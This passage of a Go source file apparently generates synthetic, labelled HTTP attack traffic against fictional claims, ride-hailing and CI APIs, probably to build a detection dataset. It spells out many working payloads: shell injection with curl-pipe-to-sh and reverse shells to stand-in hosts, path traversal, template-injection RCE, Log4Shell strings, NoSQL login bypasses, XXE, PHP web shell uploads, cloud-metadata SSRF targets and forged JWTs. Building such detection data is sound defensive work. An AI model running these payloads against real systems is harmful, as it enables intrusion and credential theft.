	g.attack(h5Req{Method: "POST", Host: h5Claims, Path: "/v1/claims/" + g.claimID() + "/documents", CType: "multipart/form-data; boundary=" + b,
		Body: h5Multipart(b, [][4]string{{"kind", "", "", "receipt"}, {"file", "invoice.html", "text/html", html}})}, h5Created(`{"id":"doc_h5x"}`), h5XSS)
	b = "----BuildHive" + g.str(h5Alnum, 12)
	g.attack(h5Req{Method: "POST", Host: h5CI, Path: "/api/v1/projects/" + g.proj() + "/uploads", CType: "multipart/form-data; boundary=" + b,
		Body: h5Multipart(b, [][4]string{{"file", "report.html", "text/html", `<html><body><img src=x onerror="alert(document.cookie)"><p>coverage 81%</p></body></html>`}})}, h5Created(`{"markdown":"![report](/uploads/a1/report.html)"}`), h5XSS)
}

var h5CmdPayloads = []string{
	"; cat /etc/passwd", "| id", "`whoami`", "$(id)", "&& curl http://203.0.113.66/x.sh | sh", "|| wget -qO- http://evil.example/b|bash",
	";nc -e /bin/sh 198.51.100.9 4444", "main;curl${IFS}http://198.51.100.9/p|sh", "x;$'\\x69\\x64'", ";{cat,/etc/passwd}",
	";/???/c?t /???/p??s??", ";w'h'o'am'i", ";c\\at /etc/shadow", "a\nuname -a", "| sleep 10 #", "$(sleep 5)",
	";bash -i >& /dev/tcp/198.51.100.9/4444 0>&1", "& type C:\\Windows\\win.ini", "| powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
	";python3 -c 'import os;os.system(\"id\")'", "$(echo${IFS}aWQ=|base64${IFS}-d|sh)", "release`uname${IFS}-a`", "1.2.3;ls${IFS}-la${IFS}/",
	"report.pdf; rm -rf /tmp/*", "plate&&id&&", "||ping -c 10 198.51.100.9||",
}

var h5TravPayloads = []string{
	"../../../../etc/passwd", "....//....//....//etc/passwd", "..\\..\\..\\..\\windows\\win.ini", "../../../../etc/passwd%00.pdf",
	"..%00/..%00/..%00/etc/passwd", "/var/www/../../etc/passwd", "../../../proc/self/environ", "..\\/..\\/..\\/etc/shadow",
	"../../../../../../root/.ssh/id_rsa", "\uFFFD\uFFFD/\uFFFD\uFFFD/\uFFFD\uFFFD/etc/passwd", "..;/..;/..;/WEB-INF/web.xml", "..././..././..././etc/hosts",
}

var h5SSTIPayloads = []string{
	"{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
	"{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}", "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
	"{{['id']|filter('system')}}", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
	"<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}", "${\"freemarker.template.utility.Execute\"?new()(\"whoami\")}",
	"#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')", "<%= system(\"id\") %>", "<%= `ls /` %>",
	"{system('cat /etc/passwd')}", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x", "*{T(java.lang.Runtime).getRuntime().exec('whoami')}",
	"@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))", "{{7*191}}", "${T(java.lang.System).getenv()}",
	"{{lipsum.__globals__.os.popen('cat /etc/hostname').read()}}",
}

var h5JNDIPayloads = []string{
	"${jndi:ldap://198.51.100.23:1389/Basic/Command/Base64/aWQ=}", "${jndi:dns://x7k2.oast.example/a}", "${${lower:j}ndi:${lower:l}dap://oast.example/x}",
	"${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}", "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/o}",
	"${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/z}", "${jndi:ldaps://evil.example/a}", "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example/x}",
}

func (g *h5Gen) attackOther() {
	var all []string
	all = append(all, h5CmdPayloads...)
	all = append(all, h5TravPayloads...)
	all = append(all, h5SSTIPayloads...)
	for i, p := range all {
		g.attack(g.place(i+7, p), g.injResp(i), h5Other)
	}
	// Traversal in a path, pre-encoded as scanners send it.
	for _, p := range []string{"..%2f..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fhosts", "..%252f..%252f..%252fetc%252fpasswd", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"} {
		g.attack(h5Req{Method: "GET", Host: h5CI, Path: "/api/v1/projects/" + g.proj() + "/repository/files/" + p + "/raw?ref=main"}, h5Err(404, "not_found", "File not found"), h5Other)
	}
	g.attack(h5Req{Method: "GET", Host: h5Claims, Path: "/v1/claims/" + g.claimID() + "/documents/download?name=" + url.QueryEscape("../../../../../etc/passwd")}, h5Err(400, "invalid_name", "Bad document name"), h5Other)
	// Multipart file names.
	for _, fn := range []string{"../../../../var/www/html/shell.php", "..\\..\\..\\inetpub\\wwwroot\\cmd.aspx"} {
		b := "----ClaimSureBoundary" + g.str(h5Alnum, 12)
		g.attack(h5Req{Method: "POST", Host: h5Claims, Path: "/v1/claims/" + g.claimID() + "/documents", CType: "multipart/form-data; boundary=" + b,
			Body: h5Multipart(b, [][4]string{{"kind", "", "", "receipt"}, {"file", fn, "application/octet-stream", "<?php system($_GET['c']); ?>"}})}, h5Created(`{"id":"doc_up1","status":"scanning"}`), h5Other)
	}
	// Log4Shell in headers and JSON.
	for i, p := range h5JNDIPayloads {
		hn := []string{"User-Agent", "X-Api-Version", "Referer", "X-Forwarded-For", "X-Device-Model"}[i%5]
		if i%3 == 2 {
			g.attack(h5Req{Method: "POST", Host: h5Ride, Path: "/v2/support/chats/" + g.uuid() + "/messages", CType: "application/json", Body: h5JSON(map[string]any{"text": p})}, h5Created(`{"queued":true}`), h5Other)
			continue
		}
		host := []string{h5Claims, h5Ride, h5CI}[i%3]
		g.attack(h5Req{Method: "GET", Host: host, Path: h5StatusPath[host], Headers: [][2]string{{hn, p}}}, h5OK(`{"status":"ok"}`), h5Other)
	}
	// NoSQL operators on credentials and code.
	nosql := []h5Req{
		{Method: "POST", Host: h5Ride, Path: "/v2/auth/login", Auth: "-", CType: "application/json", Body: `{"email":"driver.ops@ridego.example","password":{"$ne":null}}`},
		{Method: "POST", Host: h5Claims, Path: "/v1/auth/login", Auth: "-", CType: "application/x-www-form-urlencoded", Body: "username[$ne]=admin&password[$ne]=x"},
		{Method: "GET", Host: h5Ride, Path: "/v2/trips?$where=" + url.QueryEscape("sleep(5000)")},
		{Method: "POST", Host: h5Ride, Path: "/v2/trips/search", CType: "application/json", Body: `{"filter":{"$where":"this.fare.amount > 0 && sleep(3000)"}}`},
		{Method: "POST", Host: h5CI, Path: "/api/v1/session", Auth: "-", CType: "application/json", Body: `{"email":{"$gt":""},"password":{"$gt":""}}`},
		{Method: "POST", Host: h5Claims, Path: "/v1/auth/login", Auth: "-", CType: "application/json", Body: `{"username":{"$regex":".*"},"password":{"$ne":"1"}}`},
		{Method: "POST", Host: h5CI, Path: "/api/v1/projects/search", CType: "application/json", Body: `{"query":{"$function":{"body":"function(){ sleep(5000); return true }","args":[],"lang":"js"}}}`},
		{Method: "GET", Host: h5Ride, Path: "/v2/auth/reset?email=rider%40mail.example&token[$ne]=x"},
		{Method: "POST", Host: h5Ride, Path: "/v2/auth/login", Auth: "-", CType: "application/x-www-form-urlencoded", Body: "phone=%2B447700900123&password%5B%24regex%5D=%5Ea.*"},
		{Method: "POST", Host: h5CI, Path: "/api/v1/session", Auth: "-", CType: "application/json", Body: `{"login":{"$in":["admin","root","ci"]},"password":{"$exists":true}}`},
	}
	for _, r := range nosql {
		g.attack(r, g.pick2(h5OK(`{"ok":true}`), h5Err(401, "invalid_credentials", "Wrong email or password")), h5Other)
	}
	// XXE: SOAP, REST with XML, uploaded files.
	xxe := []string{
		`<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>` + `<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:cl="urn:claimsure:claims:v1"><soapenv:Body><cl:GetClaim><cl:claimId>&xxe;</cl:claimId></cl:GetClaim></soapenv:Body></soapenv:Envelope>`,
		`<?xml version="1.0"?><!DOCTYPE data [<!ENTITY % dtd SYSTEM "http://198.51.100.7/evil.dtd"> %dtd; %all;]><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><GetPolicy><id>&send;</id></GetPolicy></soapenv:Body></soapenv:Envelope>`,
		`<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]><claim><note>&lol4;</note></claim>`,
		`<claim xmlns:xi="http://www.w3.org/2001/XInclude"><note><xi:include href="file:///etc/passwd" parse="text"/></note></claim>`,
		`<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE r [<!ELEMENT r ANY><!ENTITY sp SYSTEM "http://evil.example/xxe?x=1">]><r>&sp;</r>`,
		`<?xml version="1.0"?><!DOCTYPE x SYSTEM "https://evil.example/ext.dtd"><policyQuery><number>POL-HOME-4471</number></policyQuery>`,
	}
	for i, x := range xxe {
		host, path := h5Claims, "/soap/ClaimService"
		if i >= 2 {
			host, path = []string{h5Claims, h5CI}[i%2], []string{"/v1/claims/import", "/api/v1/projects/claims-engine/test-reports"}[i%2]
		}
		labels := []string{h5Other}
		if strings.Contains(x, "xi:include") {
			// The XInclude href is an attribute holding a file: URL.
			labels = append(labels, h5SSRF)
		}
		g.attack(h5Req{Method: "POST", Host: host, Path: path, CType: "application/xml", Body: x}, h5Resp{Status: 200, CType: "application/xml", Body: `<result>accepted</result>`}, labels...)
	}
	svgXXE := `<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg" width="128" height="128"><text font-size="16" x="0" y="16">&xxe;</text></svg>`
	b := "----RideGoForm" + g.str(h5Alnum, 10)
	g.attack(h5Req{Method: "POST", Host: h5Ride, Path: "/v2/riders/me/avatar", CType: "multipart/form-data; boundary=" + b, Body: h5Multipart(b, [][4]string{{"avatar", "me.svg", "image/svg+xml", svgXXE}})}, h5Created(`{"avatar_url":"https://cdn.ridego.example/a/77.png"}`), h5Other)
	junit := `<?xml version="1.0"?><!DOCTYPE testsuite [<!ENTITY ext SYSTEM "file:///home/runner/.aws/credentials">]><testsuite name="fare" tests="1"><testcase name="x"><failure>&ext;</failure></testcase></testsuite>`
	b = "----BuildHive" + g.str(h5Alnum, 12)
	g.attack(h5Req{Method: "POST", Host: h5CI, Path: "/api/v1/jobs/8812231/test-reports", CType: "multipart/form-data; boundary=" + b, Body: h5Multipart(b, [][4]string{{"format", "", "", "junit"}, {"file", "junit.xml", "application/xml", junit}})}, h5Created(`{"tests":1}`), h5Other)
	// Command injection in CI fields that are not scripts: branch and tag names.
	for _, br := range []string{"feature/x;curl${IFS}-s${IFS}http://198.51.100.9/r.sh|bash", "$(curl -s http://evil.example/$(whoami))", "main`id`"} {
		g.attack(h5Req{Method: "POST", Host: h5CI, Path: "/api/v1/projects/" + g.proj() + "/pipelines", CType: "application/json", Body: h5JSON(map[string]any{"ref": br})}, h5Err(400, "invalid_ref", "Reference not found"), h5Other)
	}
}

var h5SSRFTargets = []string{
	"http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://169.254.169.254/computeMetadata/v1/instance/",
	"http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", "http://[fd00:ec2::254]/latest/meta-data/",
	"http://2852039166/latest/meta-data/", "http://0xA9FEA9FE/latest/user-data", "http://0251.0376.0251.0376/latest/meta-data/",
	"http://127.0.0.1:6379/", "http://localhost:8080/actuator/env", "http://127.1/admin", "http://0177.0.0.1/server-status",
	"http://2130706433/", "http://0x7f000001:9000/", "http://[::1]:9200/_cat/indices", "http://[::ffff:127.0.0.1]/", "http://[::ffff:7f00:1]:8500/v1/agent/self",
	"http://10.0.0.12:8500/v1/kv/?recurse", "http://192.168.1.1/cgi-bin/luci", "http://172.16.5.20:9000/minio/admin/v3/info", "http://100.64.0.10/",
	"http://169.254.170.2/v2/credentials/", "http://①②⑦.⓪.⓪.①/", "http://app.10.0.0.1.nip.io/", "http://7f000001.nip.io:8080/",
	"http://customer.lvh.me:3000/", "http://localtest.me/", "https://trusted.claimsure.example@127.0.0.1/", "http://ops:hunter2@10.1.2.3/",
	"file:///srv/claims/config.yaml", "file://localhost/c:/inetpub/wwwroot/web.config", "gopher://127.0.0.1:6379/_SET%20x%20y%0D%0A",
	"dict://127.0.0.1:11211/stats", "ldap://10.0.0.5:389/dc=corp,dc=local", "http://127.0.0.1:2375/containers/json",
	"http://LOCALHOST:15672/api/overview", "http://0x7f.0x0.0x0.0x1/", "http://017700000001/", "http://169.254.169.254:80/openstack/latest/meta_data.json",
	"http://100.100.100.200/latest/meta-data/", "http://[fe80::1]/", "http://169.254.169.254.nip.io/latest/meta-data/", "http://[0:0:0:0:0:ffff:a9fe:a9fe]/",
	"http://10.20.30.40:8080/manager/html", "http://192.168.0.1:80/", "http://metadata.google.internal./computeMetadata/v1/project/", "https://localhost:6443/api/v1/secrets",
	"http://127.0.0.1:8001/api/v1/namespaces/kube-system/secrets", "http://172.31.0.2/",
}

func (g *h5Gen) ssrfPlace(k int, u string) h5Req {
	switch k % 9 {
	case 0:
		return h5Req{Method: "POST", Host: h5CI, Path: "/api/v1/projects/" + g.proj() + "/webhooks", CType: "application/json", Body: h5JSON(map[string]any{"url": u, "events": []string{"pipeline"}})}
	case 1:
		return h5Req{Method: "POST", Host: h5Claims, Path: "/v1/claims/" + g.claimID() + "/documents/import", CType: "application/json", Body: h5JSON(map[string]any{"source": map[string]any{"type": "url", "source_url": u}, "kind": "police_report"})}
	case 2:
		return h5Req{Method: "GET", Host: h5Ride, Path: "/v2/maps/static?marker_icon_url=" + url.QueryEscape(u) + "&zoom=14"}
	case 3:
		return h5Req{Method: "PATCH", Host: h5Ride, Path: "/v2/riders/me", CType: "application/x-www-form-urlencoded", Body: url.Values{"avatar_url": {u}}.Encode()}
	case 4:
		return h5Req{Method: "POST", Host: h5Claims, Path: "/soap/ClaimService", CType: "text/xml; charset=utf-8", Headers: [][2]string{{"SOAPAction", "urn:claimsure:claims:v1#AttachDocument"}},
			Body: h5SOAP("AttachDocument", "<cl:claimId>"+g.claimID()+"</cl:claimId><cl:documentUrl>"+h5XMLEsc(u)+"</cl:documentUrl>")}
	case 5:
		return h5Req{Method: "POST", Host: h5CI, Path: "/graphql", CType: "application/json", Body: h5JSON(map[string]any{"query": "mutation Mirror($url: String!) { importRepository(url: $url, name: \"mirror\") { id } }", "variables": map[string]any{"url": u}})}
	case 6:
		b := "----BuildHive" + g.str(h5Alnum, 12)
		return h5Req{Method: "POST", Host: h5CI, Path: "/api/v1/projects/" + g.proj() + "/artifacts/fetch", CType: "multipart/form-data; boundary=" + b, Body: h5Multipart(b, [][4]string{{"name", "", "", "deps.tgz"}, {"artifact_url", "", "", u}})}
	case 7:
		return h5Req{Method: "POST", Host: h5Ride, Path: "/v2/partners/integrations", CType: "application/json", Body: h5JSON(map[string]any{"partner": "fleetco", "config": map[string]any{"endpoints": map[string]any{"callback_url": u}}})}
	default:
		return h5Req{Method: "GET", Host: h5Claims, Path: "/v1/tools/preview?url=" + url.QueryEscape(u)}
	}
}

func (g *h5Gen) awsCreds() string {
	return h5JSON(map[string]any{"Code": "Success", "LastUpdated": "2026-12-01T07:58:00Z", "Type": "AWS-HMAC", "AccessKeyId": "ASIA" + g.str("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16),
		"SecretAccessKey": g.str(h5Alnum+"/+", 40), "Token": "IQoJb3JpZ2luX2VjE" + g.str(h5Alnum+"/+", 300), "Expiration": "2026-12-01T14:10:00Z"})
}

func (g *h5Gen) attackSSRF() {
	for i, u := range h5SSRFTargets {
		req := g.ssrfPlace(i, u)
		if strings.Contains(u, "security-credentials") || strings.Contains(u, "169.254.170.2") {
			g.attack(req, h5OK(h5JSON(map[string]any{"preview": map[string]any{"status": 200, "content": g.awsCreds()}})), h5SSRF, h5Sens)
			continue
		}
		g.attack(req, g.pick2(h5Err(422, "unreachable", "Could not fetch the URL"), h5Resp{Status: 202, CType: "application/json", Body: `{"status":"queued"}`}), h5SSRF)
	}
	// Host-override headers from outside, against public API hosts.
	hdrs := [][2]string{{"X-Forwarded-Host", "169.254.169.254"}, {"X-Host", "127.0.0.1"}, {"X-Original-Host", "10.0.3.7"}, {"X-Forwarded-Server", "localhost"},
		{"X-HTTP-Host-Override", "192.168.0.10"}, {"X-Forwarded-Host", "metadata.google.internal"}, {"X-Host", "169.254.169.254"}, {"X-Forwarded-Host", "127.0.0.1:8080"},
		{"X-Original-Host", "[::1]"}, {"X-Forwarded-Server", "10.0.0.5"}}
	for i, h := range hdrs {
		host := []string{h5Claims, h5Ride, h5CI}[i%3]
		g.attack(h5Req{Method: "GET", Host: host, Path: g.pick("/v1/admin/config", "/internal/health", "/v1/status", "/metrics"), Headers: [][2]string{h}}, h5Err(404, "not_found", "No route"), h5SSRF)
	}
	// Metadata reached, credentials handed back.
	for i := 0; i < 3; i++ {
		u := []string{"http://169.254.169.254/latest/meta-data/iam/security-credentials/ci-runner-role", "http://[::ffff:a9fe:a9fe]/latest/meta-data/iam/security-credentials/claims-worker", "http://instance-data/latest/meta-data/iam/security-credentials/x"}[i]
		if i == 2 {
			u = "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/iam/security-credentials/ride-api"
		}
		var creds map[string]any
		if err := json.Unmarshal([]byte(g.awsCreds()), &creds); err != nil {
			panic(err)
		}
		g.attack(g.ssrfPlace(i*4+1, u), h5OK(h5JSON(map[string]any{"fetched": true, "status": 200, "json": creds})), h5SSRF, h5Sens)
	}
}

func (g *h5Gen) jwtClaims(host string, mod func(map[string]any)) map[string]any {
	c := map[string]any{"iss": "https://auth." + strings.TrimPrefix(host, "api.") + "/", "sub": "usr_" + g.str(h5Alnum, 12), "aud": host, "role": g.pick("customer", "driver", "developer", "admin"),
		"iat": h5Base.Add(-time.Hour).Unix(), "exp": h5Base.Add(30 * 24 * time.Hour).Unix()}
	if mod != nil {
		mod(c)
	}
	return c
}

func (g *h5Gen) jwtReq(k int, tok string) h5Req {
	scheme := "Bearer "
	if k%7 == 3 {
		scheme = "bearer "
	}
	switch k % 6 {
	case 0:
		return h5Req{Method: "GET", Host: h5Claims, Path: "/v1/claims?limit=25", Auth: scheme + tok}
	case 1:
		return h5Req{Method: "GET", Host: h5Ride, Path: "/v2/riders/me", Auth: scheme + tok}
	case 2:
		return h5Req{Method: "GET", Host: h5CI, Path: "/api/v1/projects/" + g.proj() + "/secrets", Auth: scheme + tok}
	case 3:
		return h5Req{Method: "POST", Host: h5Ride, Path: "/v2/trips", CType: "application/json", Body: `{"product":"standard","pickup":{"lat":51.5,"lng":-0.12}}`, Auth: scheme + tok}
	case 4:
		return h5Req{Method: "PATCH", Host: h5Claims, Path: "/v1/claims/" + g.claimID(), CType: "application/json", Body: `{"status":"approved"}`, Auth: scheme + tok}
	default:
		return h5Req{Method: "GET", Host: h5CI, Path: "/api/v1/runners?status=online", Auth: scheme + tok}
	}
}

func (g *h5Gen) attackJWT() {
	hosts := []string{h5Claims, h5Ride, h5CI, h5Ride, h5Claims, h5CI}
	k := 0
	add := func(header map[string]any, claims map[string]any, sig string) {
		tok := h5Token(header, claims, sig)
		g.attack(g.jwtReq(k, tok), h5OK(`{"data":[],"ok":true}`), h5JWT)
		k++
	}
	// alg none in several spellings, signature empty or dropped.
	for i, alg := range []string{"none", "None", "NONE", "nOnE", "none", "None", "none", "NoNe", "none", "none"} {
		cl := g.jwtClaims(hosts[i%6], func(c map[string]any) { c["role"] = "admin" })
		h := map[string]any{"alg": alg, "typ": "JWT"}
		switch i % 3 {
		case 0:
			add(h, cl, "")
		case 1:
			tok := h5Token(h, cl, "")
			g.attack(g.jwtReq(k, strings.TrimSuffix(tok, ".")), h5OK(`{"ok":true}`), h5JWT)
			k++
		default:
			add(h, cl, "")
		}
	}
	// HS256 header, signature stripped (empty or segment dropped).
	for i := 0; i < 8; i++ {
		cl := g.jwtClaims(hosts[i%6], func(c map[string]any) { c["role"] = g.pick("admin", "maintainer", "adjuster") })
		h := map[string]any{"alg": "HS256", "typ": "JWT", "kid": "2026-11-key_2"}
		tok := h5Token(h, cl, "")
		if i%2 == 1 {
			tok = strings.TrimSuffix(tok, ".")
		}
		g.attack(g.jwtReq(k, tok), h5OK(`{"ok":true}`), h5JWT)
		k++
	}
	// Expired tokens that still got a 2xx.
	for i := 0; i < 12; i++ {
		ago := time.Duration(g.n(2, 400)) * 24 * time.Hour
		cl := g.jwtClaims(hosts[i%6], func(c map[string]any) {
			c["iat"] = h5Base.Add(-ago - 2*time.Hour).Unix()
			c["exp"] = h5Base.Add(-ago).Unix()
		})
		add(map[string]any{"alg": "HS256", "typ": "JWT", "kid": "2026-11-key_2"}, cl, "sign")
	}
	// Not yet valid, answered 2xx.
	for i := 0; i < 6; i++ {
		cl := g.jwtClaims(hosts[i%6], func(c map[string]any) {
			c["nbf"] = h5Base.Add(time.Duration(45+i*30) * 24 * time.Hour).Unix()
			c["iat"] = h5Base.Add(time.Duration(45+i*30) * 24 * time.Hour).Unix()
			c["exp"] = h5Base.Add(time.Duration(90+i*30) * 24 * time.Hour).Unix()
		})
		add(map[string]any{"alg": "HS256", "typ": "JWT"}, cl, "sign")
	}
	// kid injection.
	for _, kid := range []string{"../../../../../../dev/null", "../../../../proc/sys/kernel/randomize_va_space", "x' UNION SELECT 'secret'--", "key1|curl http://198.51.100.9/k",
		"2026-11-key_2; rm -rf /", "$(id)", "k1 && cat /etc/passwd", "/dev/null", "key' OR '1'='1", "`whoami`", "..\\..\\..\\windows\\win.ini", "keys/../../../etc/hostname"} {
		add(map[string]any{"alg": "HS256", "typ": "JWT", "kid": kid}, g.jwtClaims(h5Claims, nil), "sign")
	}
	// jku / x5u to untrusted or internal hosts.
	for _, hd := range []map[string]any{
		{"alg": "RS256", "typ": "JWT", "jku": "https://evil.example/.well-known/jwks.json", "kid": "attacker"},
		{"alg": "RS256", "jku": "http://127.0.0.1:8000/jwks.json"},
		{"alg": "RS256", "jku": "https://auth.ridego.example.evil.example/jwks.json"},
		{"alg": "RS256", "x5u": "https://cdn.evil.example/cert.pem"},
		{"alg": "RS256", "x5u": "http://10.0.0.7/cert.pem"},
		{"alg": "RS256", "jku": "https://raw.githubusercontent.com/attacker/keys/main/jwks.json", "kid": "1"},
		{"alg": "ES256", "jku": "http://169.254.169.254/latest/meta-data/"},
		{"alg": "RS256", "jku": "https://pastebin.example/raw/k3y"},
	} {
		add(hd, g.jwtClaims(h5CI, func(c map[string]any) { c["role"] = "admin" }), g.str(h5Alnum+"-_", 342))
	}
	// Embedded jwk.
	for i := 0; i < 6; i++ {
		jwk := map[string]any{"kty": "RSA", "e": "AQAB", "n": g.str(h5Alnum+"-_", 342), "kid": "attacker-" + fmt.Sprint(i)}
		if i%2 == 1 {
			jwk = map[string]any{"kty": "oct", "k": g.str(h5Alnum+"-_", 43)}
		}
		alg := "RS256"
		if i%2 == 1 {
			alg = "HS256"
		}
		add(map[string]any{"alg": alg, "typ": "JWT", "jwk": jwk}, g.jwtClaims(hosts[i%6], func(c map[string]any) { c["role"] = "admin" }), g.str(h5Alnum+"-_", 86))
	}
}

var h5Traces = []string{
	"java.lang.NullPointerException: Cannot invoke \"com.claimsure.model.Policy.getHolder()\" because \"policy\" is null\n\tat com.claimsure.claims.ClaimService.validate(ClaimService.java:214)\n\tat com.claimsure.claims.ClaimController.create(ClaimController.java:88)\n\tat java.base/jdk.internal.reflect.DirectMethodHandleAccessor.invoke(DirectMethodHandleAccessor.java:103)",
	"Traceback (most recent call last):\n  File \"/app/pricing/views.py\", line 57, in estimate\n    surge = model.predict(features)\n  File \"/app/pricing/model.py\", line 112, in predict\n    return self._m[zone]\nKeyError: 'zone_4471'",
	"panic: runtime error: invalid memory address or nil pointer dereference\n[signal SIGSEGV: segmentation violation code=0x1 addr=0x18 pc=0x6b2f1c]\n\ngoroutine 418 [running]:\ngithub.com/buildhive/api/internal/pipelines.(*Service).Retry(0xc0001a4000, {0x9a1c40, 0xc00041e0f0}, 0x7d1)\n\t/src/internal/pipelines/service.go:212 +0x3c\nnet/http.HandlerFunc.ServeHTTP(0xc0002b6030, {0x9a0e80, 0xc0003c62a0}, 0xc0004d8000)\n\t/usr/local/go/src/net/http/server.go:2220 +0x29",
	"System.InvalidOperationException: Sequence contains no elements\n   at System.Linq.ThrowHelper.ThrowNoElementsException()\n   at ClaimSure.Api.Controllers.PayoutsController.Get(String id) in C:\\build\\src\\ClaimSure.Api\\Controllers\\PayoutsController.cs:line 42\n   at lambda_method12(Closure , Object , Object[] )",
	"TypeError: Cannot read properties of undefined (reading 'lat')\n    at computeEta (/srv/ridego/src/eta.js:41:22)\n    at /srv/ridego/src/routes/trips.js:118:17\n    at Layer.handle [as handle_request] (/srv/ridego/node_modules/express/lib/router/layer.js:95:5)\n    at process.processTicksAndRejections (node:internal/process/task_queues:95:5)",
	"PHP Fatal error:  Uncaught Error: Call to a member function format() on null in /var/www/claims/src/Report.php:77\nStack trace:\n#0 /var/www/claims/public/index.php(31): Report->render()\n#1 {main}\n  thrown in /var/www/claims/src/Report.php on line 77",
	"/app/app/models/trip.rb:42:in 'Trip#fare_breakdown': undefined method 'amount' for nil (NoMethodError)\n\tfrom /app/app/controllers/trips_controller.rb:18:in 'TripsController#show'\n\tfrom /usr/local/bundle/gems/actionpack-7.2.1/lib/action_controller/metal/basic_implicit_render.rb:8:in 'ActionController::BasicImplicitRender#send_action'",
	"thread 'tokio-runtime-worker' panicked at src/artifacts/store.rs:88:14:\ncalled `Option::unwrap()` on a `None` value\nnote: run with `RUST_BACKTRACE=1` environment variable to display a backtrace",
	"org.springframework.dao.DataIntegrityViolationException: could not execute statement; SQL [n/a]; constraint [uk_driver_licence]\n\tat org.springframework.orm.jpa.vendor.HibernateJpaDialect.convertHibernateAccessException(HibernateJpaDialect.java:290)\n\tat com.ridego.drivers.DriverRepository.save(DriverRepository.java:51)",
	"Error [ERR_MODULE_NOT_FOUND]: Cannot find module '/app/dist/webhooks/sign.mjs' imported from /app/dist/server.mjs\n    at finalizeResolution (node:internal/modules/esm/resolve:265:11)\n    at moduleResolve (node:internal/modules/esm/resolve:933:10)\n    at file:///app/dist/server.mjs:14:1",
	"Warning: Undefined array key \"policy_id\" in /var/www/claims/src/Import.php on line 19",
	"NameError: undefined local variable or method 'surge_zone' for an instance of PricingService\n/app/app/services/pricing_service.rb:23:in 'PricingService#call'",
	"Exception in thread \"main\" java.lang.IllegalStateException: Artifact store not initialised\n\tat dev.buildhive.artifacts.Store.get(Store.java:61)\n\tat dev.buildhive.artifacts.Handler.handle(Handler.java:33)",
	"Notice: Trying to access array offset on value of type null in /var/www/claims/lib/Payout.php on line 140",
	"Microsoft.Data.SqlClient.SqlException (0x80131904): Invalid column name 'policy_no'.\n   at Microsoft.Data.SqlClient.SqlConnection.OnError(SqlException exception, Boolean breakConnection)\n   at ClaimSure.Data.PolicyRepo.Find(String no) in /src/ClaimSure.Data/PolicyRepo.cs:line 88",
	"Error: ENOENT: no such file or directory, open '/srv/ridego/config/zones/lhr.json'\n    at Object.openSync (node:fs:573:18)\n    at Object.readFileSync (node:fs:452:35)\n    at loadZone (/srv/ridego/src/zones.js:12:19)",
	"src/webhooks/deliver.ts:73\n    throw new DeliveryError(`status ${res.status}`);\n          ^\nDeliveryError: status 502\n    at deliver (/app/src/webhooks/deliver.ts:73:11)\n    at async Worker.run (/app/src/queue/worker.ts:40:5)",
	"Fatal error: Uncaught PDOException: SQLSTATE[HY000] [2002] Connection refused in /var/www/claims/src/Db.php:22\nStack trace:\n#0 /var/www/claims/src/Db.php(22): PDO->__construct('mysql:host=db;d...', 'claims', Object(SensitiveParameterValue))\n#1 {main}",
}

var h5DBErrors = []string{
	"ERROR 1054 (42S22): Unknown column 'fare_cap' in 'field list'",
	"pq: relation \"claim_documents_v2\" does not exist",
	"ERROR: invalid input syntax for type uuid: \"trp_8812\"\nLINE 1: SELECT * FROM trips WHERE id = 'trp_8812'\n                                       ^",
	"SQLSTATE[23000]: Integrity constraint violation: 1062 Duplicate entry 'drv_77' for key 'drivers.PRIMARY'",
	"SQLITE_CONSTRAINT: UNIQUE constraint failed: webhooks.url",
	"ORA-00942: table or view does not exist",
	"DB2 SQL Error: SQLCODE=-204, SQLSTATE=42704, SQLERRMC=CLAIMS.PAYOUTS, DRIVER=4.26.14",
	"ER_NO_SUCH_TABLE: Table 'ridego.promo_codes' doesn't exist",
	"sql: Scan error on column index 3, name \"fare\": converting NULL to float64 is unsupported",
	"Msg 208, Level 16, State 1, Line 1\nInvalid object name 'dbo.ClaimNotes'.",
	"pq: duplicate key value violates unique constraint \"pipelines_project_id_iid_key\"",
	"SQLite3::BusyException: database is locked",
	"com.mysql.cj.jdbc.exceptions.CommunicationsException: Communications link failure\n\nThe last packet sent successfully to the server was 0 milliseconds ago.",
	"ERROR:  column \"statuss\" does not exist at character 38",
	"Npgsql.PostgresException (0x80004005): 42P01: relation \"payouts\" does not exist",
